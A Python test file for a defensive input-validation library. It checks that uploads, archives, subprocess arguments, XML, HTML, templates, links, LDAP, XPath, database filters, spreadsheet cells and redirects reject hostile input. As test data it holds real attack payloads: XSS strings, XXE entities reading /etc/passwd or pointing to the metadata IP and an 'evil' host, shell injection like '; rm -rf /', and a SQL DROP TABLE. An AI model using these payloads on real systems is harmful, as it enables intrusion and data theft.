"""Files, archives, processes, XML, HTML, templates and small languages under attack."""

import asyncio
import contextlib
import gzip
import io
import json
import os
import re
import struct
import sys
import tarfile
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from jinja2 import UndefinedError
from strongback.errors import ConfigurationError, DeniedError, LimitExceededError
from strongback.inputs.archives import ArchiveBudget, unpack_tar, unpack_zip
from strongback.inputs.files import FileRefusedError, SafeDir, accept_upload, download_headers
from strongback.inputs.markup import (
    PageEnvironment,
    css_token,
    json_for_attribute,
    json_for_script,
    safe_link,
    sanitize_html,
    strip_html,
)
from strongback.inputs.processes import Command
from strongback.inputs.text import (
    Choice,
    TextRefusedError,
    ldap_filter,
    mail_header,
    query_values,
    redirect_target,
    spreadsheet_cell,
    xpath_text,
)
from strongback.inputs.xml import XmlRefusedError, parse_xml
from strongback.testing import SeededRandomness

OUTSIDE = b"outside"


@pytest.fixture
def safe(tmp_path: Path) -> SafeDir:
    root = tmp_path / "root"
    (root / "sub").mkdir(parents=True)
    (root / "sub" / "file.txt").write_bytes(b"inside")
    (tmp_path / "secret").write_bytes(OUTSIDE)
    (root / "link").symlink_to(tmp_path / "secret")
    (root / "dirlink").symlink_to(tmp_path)
    (root / "hop").symlink_to("sub")
    os.mkfifo(root / "pipe")
    return SafeDir(root)


@pytest.mark.parametrize(
    "name",
    [
        "../secret",
        "sub/../../secret",
        "/etc/passwd",
        "link",
        "dirlink/secret",
        "hop/file.txt",
        "",
        ".",
        "..",
        "sub",
        "sub/",
        "//etc/passwd",
        "sub//file.txt",
        "sub/\x00",
        "sub\\..\\x",
        "pipe",
        "a" * 300,
        "nowhere",
        "sub/file.txt/x",
    ],
)
def test_names_that_lead_elsewhere_are_refused(safe: SafeDir, name: str) -> None:
    with pytest.raises(FileRefusedError):
        safe.open(name)
    if name != "nowhere":
        with pytest.raises(FileRefusedError):
            safe.create(name)


def test_names_below_are_opened_and_created_once(safe: SafeDir) -> None:
    with safe.open("sub/file.txt") as stream:
        assert stream.read() == b"inside"
    with safe.create("new/deep/file") as stream:
        stream.write(b"x")
    with safe.open("new/deep/file") as stream:
        assert os.fstat(stream.fileno()).st_mode & 0o777 == 0o600
    with pytest.raises(FileRefusedError):
        safe.create("new/deep/file")
    with pytest.raises(ConfigurationError):
        SafeDir("/nonexistent")


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(
        st.sampled_from(["..", ".", "", "link", "dirlink", "sub", "secret", "file.txt", "/", "\\"]),
        max_size=6,
    )
)
def test_no_combination_of_names_reads_outside(safe: SafeDir, parts: list[str]) -> None:
    try:
        with safe.open("/".join(parts)) as stream:
            assert stream.read() != OUTSIDE
    except FileRefusedError:
        pass


def png(width: int, height: int) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", width, height)


def jpeg(width: int, height: int) -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x04ab" + b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width)


WEBP = b"RIFF\x00\x00\x00\x00WEBPVP8X" + b"\x00" * 8 + b"\x0f\x27\x00\x0f\x27\x00"
PICTURES = ["image/png", "image/jpeg", "image/gif", "image/webp"]


@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (png(10, 10), "a.png", "image/png"),
        (jpeg(10, 10), "a.JPEG", "image/jpeg"),
        (b"GIF89a" + struct.pack("<HH", 3, 3), "x.gif", "image/gif"),
    ],
)
def test_uploads_are_known_by_content_and_extension(data: bytes, name: str, kind: str) -> None:
    accepted = accept_upload(data, "../../" + name, types=PICTURES, rng=SeededRandomness())
    assert accepted.content_type == kind
    assert accepted.display_name == name
    assert len(accepted.storage_name.partition(".")[0]) == 32


@pytest.mark.parametrize(
    ("data", "name", "error"),
    [
        (png(10, 10), "a.gif", FileRefusedError),
        (png(10, 10), "a.png.html", FileRefusedError),
        (png(10, 10), "a", FileRefusedError),
        (b"<svg onload=alert(1)>", "a.png", FileRefusedError),
        (b"GIF89a<script>", "a.html", FileRefusedError),
        (png(50_000, 50_000), "a.png", LimitExceededError),
        (jpeg(60_000, 60_000), "a.jpg", LimitExceededError),
        (WEBP, "a.webp", LimitExceededError),
        (b"\x89PNG\r\n\x1a\n", "a.png", LimitExceededError),
        (b"\xff\xd8\xff\xe0", "a.jpg", LimitExceededError),
        (png(10, 10) + b"x" * 2000, "a.png", LimitExceededError),
    ],
)
def test_uploads_that_are_not_what_they_claim(data: bytes, name: str, error: type[Exception]) -> None:
    with pytest.raises(error):
        accept_upload(data, name, types=PICTURES, rng=SeededRandomness(), max_bytes=1000)


@given(st.binary(max_size=80), st.sampled_from([".png", ".jpg", ".gif", ".webp"]), st.text(max_size=20))
def test_accepting_never_raises_anything_else(data: bytes, extension: str, name: str) -> None:
    for lead in (b"", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"GIF89a", b"RIFF\x00\x00\x00\x00WEBPVP8L"):
        try:
            upload = accept_upload(lead + data, name + extension, types=PICTURES, rng=SeededRandomness())
        except (FileRefusedError, LimitExceededError):
            continue
        assert "/" not in upload.display_name + upload.storage_name


@given(st.text(max_size=200))
def test_download_headers_are_one_line_and_an_attachment(name: str) -> None:
    headers = download_headers(name, "text/html")
    assert headers["content-type"] == "application/octet-stream"
    value = headers["content-disposition"]
    assert value.startswith('attachment; filename="')
    assert value.isascii()
    assert value.isprintable()
    assert value.count('"') == 2


def zip_of(members: dict[str, bytes], **settings_: Any) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = settings_.get("mode", 0o100644) << 16
            archive.writestr(info, data)
    return buffer.getvalue()


def tar_of(*members: tuple[str, bytes, bytes], compress: bool = False) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data, kind in members:
            info = tarfile.TarInfo(name)
            info.type, info.size = kind, len(data)
            info.linkname = "../../secret"
            archive.addfile(info, io.BytesIO(data))
    return gzip.compress(buffer.getvalue()) if compress else buffer.getvalue()


def test_ordinary_archives_unpack(safe: SafeDir) -> None:
    assert unpack_zip(zip_of({"a/b.txt": b"1", "c.txt": b"2"}), safe) == ["a/b.txt", "c.txt"]
    members = (("t/", b"", tarfile.DIRTYPE), ("t/x", b"1", tarfile.REGTYPE))
    assert unpack_tar(tar_of(*members), safe) == ["t/x"]
    assert unpack_tar(tar_of(("z", b"1", tarfile.REGTYPE), compress=True), safe) == ["z"]
    with safe.open("a/b.txt") as stream:
        assert stream.read() == b"1"


@pytest.mark.parametrize("name", ["../x", "/x", "a/../../x", "dirlink/x", "link", "..\\x", "a\x1bb"])
def test_members_cannot_leave(safe: SafeDir, name: str, tmp_path: Path) -> None:
    for unpack in (
        lambda: unpack_zip(zip_of({name: b"1"}), safe),
        lambda: unpack_tar(tar_of((name, b"1", tarfile.REGTYPE)), safe),
    ):
        with pytest.raises(FileRefusedError):
            unpack()
    assert not (tmp_path / "x").exists()
    assert (tmp_path / "secret").read_bytes() == OUTSIDE


def test_links_devices_twins_and_damage_are_refused(safe: SafeDir) -> None:
    for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.FIFOTYPE, tarfile.CHRTYPE):
        with pytest.raises(FileRefusedError):
            unpack_tar(tar_of(("x", b"", kind)), safe)
    with pytest.raises(FileRefusedError):
        unpack_zip(zip_of({"l": b"/etc/passwd"}, mode=0o120777), safe)
    with pytest.raises(FileRefusedError):
        unpack_zip(zip_of({"Twin": b"1", "twin": b"2"}), safe)
    encrypted = bytearray(zip_of({"e": b"1"}))
    for marker in (b"PK\x03\x04", b"PK\x01\x02"):
        encrypted[encrypted.index(marker) + (6 if marker == b"PK\x03\x04" else 8)] |= 1
    for junk in (bytes(encrypted), b"", b"PK\x03\x04 not", zip_of({"a": b"x" * 100})[:-30]):
        with pytest.raises(FileRefusedError):
            unpack_zip(junk, safe)
    for junk in (b"\x1f\x8b junk", b"x" * 700, gzip.compress(b"x" * 700, mtime=0)):
        with pytest.raises(FileRefusedError):
            unpack_tar(junk, safe)


def test_bombs_are_stopped_by_promise_and_by_count(safe: SafeDir) -> None:
    bomb = zip_of({"bomb": b"\x00" * 50_000_000})
    with pytest.raises(LimitExceededError):
        unpack_zip(bomb, safe)
    lying = bytearray(bomb)
    directory = lying.index(b"PK\x01\x02")
    lying[directory + 24 : directory + 28] = struct.pack("<I", 10)
    with pytest.raises((LimitExceededError, FileRefusedError)):
        unpack_zip(bytes(lying), safe)
    with pytest.raises(LimitExceededError):
        unpack_tar(tar_of(("tb", b"\x00" * 50_000_000, tarfile.REGTYPE), compress=True), safe)
    with pytest.raises(LimitExceededError):
        unpack_zip(zip_of({f"f{i}": b"" for i in range(30)}), safe, ArchiveBudget(max_files=20))
    with pytest.raises(LimitExceededError):
        unpack_zip(zip_of({"d/" * 20 + "f": b"1"}), safe)


PYTHON = Path(sys.executable)


@pytest.mark.anyio
async def test_operands_are_data(tmp_path: Path) -> None:
    echo = Command(PYTHON, fixed=("-c", "import sys, json; print(json.dumps(sys.argv[1:]))"))
    nasty = ["; rm -rf /", "$(id)", "`id`", "a b", "|", "\n", "'\"", "*"]
    done = await echo.run(*nasty)
    assert (done.status, json.loads(done.stdout)) == (0, ["--", *nasty])
    for operand in ("-c", "--help", "-", "a\x00b", "x" * 5000):
        with pytest.raises(DeniedError):
            await echo.run(operand)
    environment = await Command(PYTHON, fixed=("-c", "import os; print(sorted(os.environ))")).run()
    assert b"PATH" not in environment.stdout
    copied = await Command(PYTHON, fixed=("-c", "import sys; print(sys.stdin.read())")).run(stdin=b"input")
    assert copied.stdout.strip() == b"input"


@pytest.mark.anyio
async def test_time_and_output_are_bounded_children_included(tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    child = f"import time; time.sleep(4); open({str(mark)!r}, 'w')"
    spawning = (
        f"import subprocess, sys, time; subprocess.Popen([sys.executable, '-c', {child!r}]); time.sleep(9)"
    )
    started = time.monotonic()
    with pytest.raises(TimeoutError):
        await Command(PYTHON, fixed=("-c", spawning), timeout=0.7).run()
    assert time.monotonic() - started < 3.5, "the child was waited for"
    endless = Command(PYTHON, fixed=("-c", "while True: print('x' * 9999)"), max_output=100_000)
    with pytest.raises(LimitExceededError):
        await endless.run()
    await asyncio.sleep(max(0.0, started + 4.5 - time.monotonic()))
    assert not mark.exists()


@pytest.mark.anyio
async def test_a_program_that_says_too_much_is_ended_every_time() -> None:
    """A full buffer stops asyncio from reading the pipe, whose end it then waits for."""
    endless = Command(PYTHON, fixed=("-c", "while True: print('x' * 9999)"), max_output=100_000)
    for _ in range(20):
        async with asyncio.timeout(20):
            with pytest.raises(LimitExceededError):
                await endless.run()


@pytest.mark.parametrize("program", ["ls", "./x", "/bin/sh", "/usr/bin/env", "/bin/bash"])
def test_shells_and_searched_names_are_refused(program: str) -> None:
    with pytest.raises(ConfigurationError):
        Command(Path(program))


LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'


@pytest.mark.parametrize(
    ("data", "error"),
    [
        (LAUGHS, XmlRefusedError),
        (b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>', XmlRefusedError),
        (b'<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/">]><x>&e;</x>', XmlRefusedError),
        (b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/x.dtd">%p;]><x/>', XmlRefusedError),
        (b"<!DOCTYPE x><x/>", XmlRefusedError),
        (b"<x>", XmlRefusedError),
        (b"", XmlRefusedError),
        (b"\xff\xfe<", XmlRefusedError),
        (b'<?xml version="1.0" encoding="no-such"?><x/>', XmlRefusedError),
        (b"<a>" * 100 + b"</a>" * 100, LimitExceededError),
        (b"<r>" + b"<a/>" * 60_000 + b"</r>", LimitExceededError),
        (b"<r>" + b" " * 2_000_000 + b"</r>", LimitExceededError),
    ],
)
def test_hostile_xml_is_refused(data: bytes, error: type[Exception]) -> None:
    with pytest.raises(error):
        parse_xml(data)


def test_ordinary_xml_is_parsed() -> None:
    root = parse_xml(b'<r a="1"><b>text</b><c/></r>')
    assert (root.tag, root.attrib, [child.tag for child in root], root[0].text) == (
        "r",
        {"a": "1"},
        ["b", "c"],
        "text",
    )


@given(st.binary(max_size=200))
def test_parsing_xml_never_raises_anything_else(data: bytes) -> None:
    with contextlib.suppress(XmlRefusedError, LimitExceededError):
        parse_xml(data)


XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<p style='background:url(javascript:alert(1))' onclick=alert(1) id=x class=y>t</p>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<form action=//evil><input name=password></form>",
    "<base href=//evil/>",
    "<meta http-equiv=refresh content='0;url=//evil'>",
]


@pytest.mark.parametrize("payload", XSS)
def test_html_from_users_cannot_run_or_load(payload: str) -> None:
    clean = sanitize_html(f"<p>before</p>{payload}")
    assert "<p>before</p>" in clean
    for part in (
        "<script",
        "<img",
        "<svg",
        "javascript:",
        "data:",
        "onerror=",
        "onclick=",
        "style=",
        "<iframe",
        "<form",
        "<base",
        "<meta",
    ):
        assert part not in clean.lower()
    assert "<" not in strip_html(payload)


def test_links_of_users_carry_no_authority() -> None:
    clean = sanitize_html('<a href="https://a.example/" target=_blank>x</a> <b>bold</b>')
    assert clean == '<a href="https://a.example/" rel="noopener noreferrer nofollow ugc">x</a> <b>bold</b>'


@pytest.fixture
def pages(tmp_path: Path) -> PageEnvironment:
    (tmp_path / "page.txt").write_text(
        "<p title='{{ text }}'>{{ text }}</p><script>var x = {{ text | script_json }};</script>"
        "<a href='{{ target | link }}?q={{ text | query }}'></a>"
    )
    (tmp_path / "missing.html").write_text("{{ nothing }}")
    (tmp_path / "style.css").write_text("a { color: {{ colour | css }} }")
    return PageEnvironment(tmp_path)


@given(
    st.text(max_size=40)
    | st.sampled_from(["</script><script>alert(1)//", "' onload='x", "{{ 7 * 7 }}", "\u2028"])
)
@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_templates_escape_in_every_place(pages: PageEnvironment, text: str) -> None:
    page = pages.get_template("page.txt").render(text=text, target="javascript:alert(1)")
    assert page.count("<script>") == page.count("</script>") == 1
    assert page.count("'") == 4
    assert "href='#?" in page
    script = page.split("var x = ")[1].split(";</script>")[0]
    assert json.loads(script) == text


def test_templates_do_not_come_from_text_and_do_not_hide_mistakes(
    pages: PageEnvironment, tmp_path: Path
) -> None:
    with pytest.raises(ConfigurationError):
        pages.from_string("{{ 1 }}")
    with pytest.raises(UndefinedError):
        pages.get_template("missing.html").render()
    with pytest.raises(ConfigurationError):
        PageEnvironment(tmp_path, autoescape=False)
    assert pages.get_template("style.css").render(colour="#fff") == "a { color: #fff }"
    for bad in ("red;} body{background:url(//evil)}", "expression(alert(1))", "url(x)", "", "a\n"):
        with pytest.raises(ValueError, match="CSS"):
            css_token(bad)


@pytest.mark.parametrize("target", ["/x?y=1", "https://a.example/b", "mailto:a@example.com"])
def test_safe_links_stay(target: str) -> None:
    assert safe_link(target) == target


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:x",
        "java\tscript:x",
        "\x01javascript:x",
        "data:x",
        "//evil",
        "/\\evil",
        "\\\\evil",
        "http://a.example",
        "https:",
        "vbscript:x",
        "mailto:",
        "https://[",
        "x",
    ],
)
def test_other_links_are_dead(target: str) -> None:
    assert safe_link(target) == "#"


@given(st.text())
def test_script_json_round_trips_without_markup(text: str) -> None:
    encoded = str(json_for_script({"a": text}))
    assert not set("<>&'\u2028\u2029") & set(encoded)
    assert json.loads(encoded) == {"a": text}


@given(st.text(max_size=30))
def test_ldap_values_stay_values(text: str) -> None:
    built = ldap_filter("(&(uid={})(active=TRUE))", text)
    assert built.startswith("(&(uid=")
    assert built.endswith(")(active=TRUE))")
    inner = built.removeprefix("(&(uid=").removesuffix(")(active=TRUE))")
    assert not set(inner) & set("()*\x00")
    decoded = re.sub(r"\\([0-9a-f]{2})", lambda m: chr(int(m[1], 16)), inner).encode("latin-1")
    assert decoded.decode() == text


@given(st.text(alphabet=st.sampled_from("a'\"]|()= ,")) | st.text(max_size=20))
def test_xpath_texts_stay_texts(text: str) -> None:
    built = xpath_text(text)
    # XPath 1.0 §3.7: a literal runs to the next quote of its own kind; `concat` joins literals.
    literals = re.findall(r"""'([^']*)'|"([^"]*)\"""", built)
    assert "".join(one or other for one, other in literals) == text
    assert re.sub(r"""'[^']*'|"[^"]*\"""", "", built).replace(", ", "") in {"", "concat()"}


def test_filters_of_document_databases_take_plain_values() -> None:
    plain = {"name": "ada", "age": 3, "ratio": 0.5, "active": True, "gone": None}
    assert query_values(plain) == plain
    for refused in (
        {"name": {"$ne": ""}},
        {"name": ["a"]},
        {"$where": "1"},
        {"a.b": 1},
        {"": 1},
        {"a\x00": 1},
        {"a": "b\x00"},
        {"a": b"b"},
    ):
        with pytest.raises(TextRefusedError):
            query_values(refused)


def test_ldap_vectors_of_rfc_4515() -> None:
    assert ldap_filter("(cn={})", "Parens R Us (for all)") == r"(cn=Parens R Us \28for all\29)"
    assert ldap_filter("(cn={})", "*") == r"(cn=\2a)"
    assert ldap_filter("(sn={})", "Lu\u010di\u0107") == r"(sn=Lu\c4\8di\c4\87)"
    with pytest.raises(ConfigurationError):
        ldap_filter("(cn={})", "a", "b")


@given(
    st.text(max_size=20) | st.sampled_from(["=1+1", "@SUM(A1)", " =1", "-2+3", "+1", "\t=1", "|cmd", "%0A=1"])
)
def test_cells_never_begin_a_formula(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert cell.lstrip(" \u00a0")[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n", "|", "%"}
    assert cell in {text, "'" + text}
    assert spreadsheet_cell(None) == ""


@pytest.mark.parametrize("value", ["a\r\nBcc: x", "a\nb", "a\x00", "a\u2028b", "a\x85b"])
def test_headers_are_one_line(value: str) -> None:
    with pytest.raises(TextRefusedError):
        mail_header(value)
    assert mail_header("Subject with ümlaut") == "Subject with ümlaut"


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("/orders?x=1", "/orders?x=1"),
        ("/", "/"),
        ("//evil", "/"),
        ("/\\evil", "/"),
        ("https://evil/", "/"),
        ("/%2e%2e//x", "/%2e%2e//x"),
        ("javascript:x", "/"),
        ("", "/"),
        ("/a\r\nb", "/"),
        ("/..//evil", "/evil"),
        ("///evil", "/evil"),
        ("/x#frag", "/x"),
    ],
)
def test_redirects_stay_here(target: str, expected: str) -> None:
    assert redirect_target(target, origin="https://app.example.com") == expected


def test_choices_are_a_list() -> None:
    order = Choice({"newest": "created_at DESC", "name": "name ASC"})
    assert order.pick("name") == "name ASC"
    for name in ("name; DROP TABLE x", "", "NAME", "created_at DESC"):
        with pytest.raises(TextRefusedError):
            order.pick(name)
    with pytest.raises(ConfigurationError):
        Choice({})


@pytest.mark.parametrize("kind", [tarfile.XHDTYPE, tarfile.XGLTYPE, tarfile.GNUTYPE_LONGNAME])
def test_headers_of_archives_are_no_way_around_the_budget(safe: SafeDir, kind: bytes) -> None:
    """The library reads what holds names and attributes into memory before anybody is asked."""
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb") as stream:
        info = tarfile.TarInfo("x")
        info.type, info.size = kind, 64 << 20
        stream.write(info.tobuf(tarfile.USTAR_FORMAT))
        for _ in range(64):
            stream.write(b"\x00" * (1 << 20))
    with pytest.raises(LimitExceededError, match="header"):
        unpack_tar(buffer.getvalue(), safe)


def test_what_is_skipped_counts_too(safe: SafeDir) -> None:
    """Members of no kind that is known are passed over by the library, however large they say they are."""
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb") as stream:
        info = tarfile.TarInfo("x")
        info.type, info.size = b"Z", 64 << 20
        stream.write(info.tobuf(tarfile.USTAR_FORMAT) + b"\x00" * (64 << 20))
    with pytest.raises(LimitExceededError):
        unpack_tar(buffer.getvalue(), safe)


def test_headers_without_a_member_are_no_archive(safe: SafeDir) -> None:
    """One after the other, each read inside the one before it."""
    info = tarfile.TarInfo("x")
    info.type, info.size = tarfile.XHDTYPE, 0
    header = info.tobuf(tarfile.USTAR_FORMAT)
    for count in (5_000, 400_000):
        packed = gzip.compress(header * count, 1)
        with pytest.raises((FileRefusedError, LimitExceededError)):
            unpack_tar(packed, safe, ArchiveBudget(max_bytes=1000, max_files=10))


def test_long_names_of_ordinary_archives_are_read(safe: SafeDir) -> None:
    for form in (tarfile.PAX_FORMAT, tarfile.GNU_FORMAT):
        buffer, name = io.BytesIO(), f"{form}/" + "d" * 120 + "/ü" + "n" * 120
        with tarfile.open(fileobj=buffer, mode="w:gz", format=form) as archive:
            info = tarfile.TarInfo(name)
            info.size = 3
            archive.addfile(info, io.BytesIO(b"abc"))
        assert unpack_tar(buffer.getvalue(), safe) == [name]


def a_jpeg(*segments: bytes) -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x04ab" + b"".join(segments)


SMALL = b"\xff\xc0\x00\x0b\x08\x00\x10\x00\x10\x01\x01\x11\x00"
HUGE = b"\xff\xc0\x00\x0b\x08\xff\xff\xff\xff\x01\x01\x11\x00"


@pytest.mark.parametrize(
    "data",
    [
        a_jpeg(HUGE),
        a_jpeg(b"\xff\xff\xff", HUGE[1:]),
        # A decoder looks for the next marker behind what is none, and finds the second size.
        a_jpeg(b"\x00\x00\x00\x02", SMALL),
        a_jpeg(b"ab" + (len(HUGE) + 2).to_bytes(2, "big"), HUGE, SMALL),
        a_jpeg(b"\xff\xda\x00\x02", SMALL),
        a_jpeg(b"\xff\xe1\x00\x00", SMALL),
    ],
)
def test_the_size_of_a_picture_is_what_decoders_find(data: bytes) -> None:
    with pytest.raises(LimitExceededError, match="pixels"):
        accept_upload(data, "a.jpg", types={"image/jpeg"}, rng=SeededRandomness())
    for fine in (a_jpeg(SMALL), a_jpeg(b"\xff\xff", SMALL[1:]), a_jpeg(b"\xff\xe1\x00\x03a", SMALL)):
        accept_upload(fine, "a.jpg", types={"image/jpeg"}, rng=SeededRandomness())


def test_other_headers_of_pictures_are_where_they_have_to_be() -> None:
    chunk = b"IHDR" + (16).to_bytes(4, "big") * 2
    for data, name, kind in (
        (b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\x0d" + chunk.replace(b"IHDR", b"tEXt"), "a.png", "image/png"),
        (b"RIFF\x00\x00\x00\x00WEBPVP8?" + b"\x00" * 30, "a.webp", "image/webp"),
    ):
        with pytest.raises(LimitExceededError, match="pixels"):
            accept_upload(data, name, types={kind}, rng=SeededRandomness())


def test_names_show_what_they_are(safe: SafeDir) -> None:
    name = "invoice\u202egnp.\u200bexe\ud800\ufeff.png"
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR" + (16).to_bytes(4, "big") * 2
    upload = accept_upload(png, name, types={"image/png"}, rng=SeededRandomness())
    assert upload.display_name == "invoicegnp.exe.png"
    assert "%E2%80%AE" not in download_headers(name, "image/png")["content-disposition"]
    for bad in ("a\ud800", "\udcff/x"):
        with pytest.raises(FileRefusedError):
            safe.open(bad)
    with pytest.raises(TextRefusedError):
        ldap_filter("(cn={})", "\ud800")


@given(st.text(st.characters(codec="utf-8"), max_size=40))
def test_json_in_an_attribute_ends_with_it(text: str) -> None:
    from html.parser import HTMLParser

    for quote in ("'", '"'):
        seen: list[tuple[str, list[tuple[str, str | None]]]] = []
        parser = HTMLParser()
        parser.handle_starttag = lambda *told, seen=seen: seen.append(told)  # type: ignore[method-assign]
        parser.feed(f"<i data-x={quote}{json_for_attribute({'a': text})}{quote}>")
        ((tag, ((name, value),)),) = seen
        assert (tag, name, json.loads(value or "")) == ("i", "data-x", {"a": text})


@pytest.mark.parametrize("text", ["\uff1d1+1", "\uff20x", "\u200b=1", "\u3000=1", "\x0b=1", "\ufeff=1"])
def test_other_ways_to_begin_a_formula(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text
    assert spreadsheet_cell("\u3000plain") == "\u3000plain"
